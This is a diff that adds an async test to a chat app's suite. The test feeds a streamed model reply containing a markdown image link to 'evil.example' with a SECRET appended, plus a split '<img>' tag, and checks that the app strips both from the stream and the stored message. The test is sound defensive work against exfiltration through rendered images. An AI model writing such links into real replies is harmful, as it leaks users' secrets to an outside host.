@@ -157,6 +157,25 @@ async def nothing_happens(who: Victims) -> None:
     assert others.json()["items"] == []
 
 
+async def test_an_answer_loads_nothing_from_elsewhere(tmp_path: Path) -> None:
+    # In pieces, as models send it: neither the stream nor what is stored holds the address.
+    pieces = (
+        "Your gain ![a](",
+        "https://evil.example/?d=",
+        SECRET,
+        ") and <im",
+        "g src='//ev.il'>.",
+    )
+    async with running(tmp_path, chat_text(*pieces)) as app:
+        session = await app.session()
+        found = await app.stream(f"/api/chat/sessions/{session}/messages", "How am I doing?")
+        kept = await app.messages(session)
+        assert kept[1]["content"] == "Your gain [a] and ."
+        shown = "".join(event["data"]["delta"] for event in found if event["event"] == "text")
+        assert shown == kept[1]["content"]
+        assert "evil.example" not in json.dumps(found)
+
+
 async def test_instructions_in_mcp_arguments_reach_nothing(
     services: Services, client: httpx2.AsyncClient, ada: dict[str, str]
 ) -> None:
